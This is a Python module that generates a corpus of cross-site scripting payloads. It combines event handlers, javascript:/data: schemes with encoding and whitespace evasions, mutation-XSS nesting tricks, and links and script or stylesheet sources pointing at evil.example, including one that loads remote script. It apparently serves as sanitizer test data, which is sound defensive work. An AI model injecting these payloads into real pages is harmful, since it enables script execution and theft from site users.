"""Ways to slip a script into a page: each handler, scheme and disguise, wherever it may stand."""

from itertools import product

HANDLERS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart"),
    *("onpointerenter", "onbeforeinput", "onwheel"),
)
TAGS = (
    "<img src=x {h}=alert(1)>",
    "<svg {h}=alert(1)>",
    '<a href="/a" {h}="alert(1)">x</a>',
    "<details open {h}=alert(1)>x</details>",
    "<p {h}=alert(1) autofocus tabindex=1>x</p>",
    "<video src=x {h}=alert(1)></video>",
    "<table {h}=alert(1)><tr><td>x</td></tr></table>",
    '<div {h}\n=\n"alert(1)">x</div>',
    "<IMG/{h}=alert(1)/src=x>",
    '<span class="a" {h}=alert`1`>x</span>',
)
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://a.example/x",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
)
CARRIERS = (
    '<a href="{s}">x</a>',
    "[x]({s})",
    '<img src="{s}">',
    '<iframe src="{s}"></iframe>',
    '<form action="{s}"><button>x</button></form>',
)
WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/\\evil.example/x'>x</a>",
    "<a href='\\\\evil.example/x'>x</a>",
    "<a href=' \t//evil.example/x'>x</a>",
    "<img srcset='//evil.example/x 1x'>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<portal src=javascript:alert(1)></portal>",
    "<marquee onstart=alert(1)>x</marquee>",
)
SAMPLES = tuple(
    dict.fromkeys(
        [
            *WHOLE,
            *(tag.format(h=handler) for tag, handler in product(TAGS, HANDLERS)),
            *(carrier.format(s=scheme) for carrier, scheme in product(CARRIERS, SCHEMES)),
        ]
    )
)
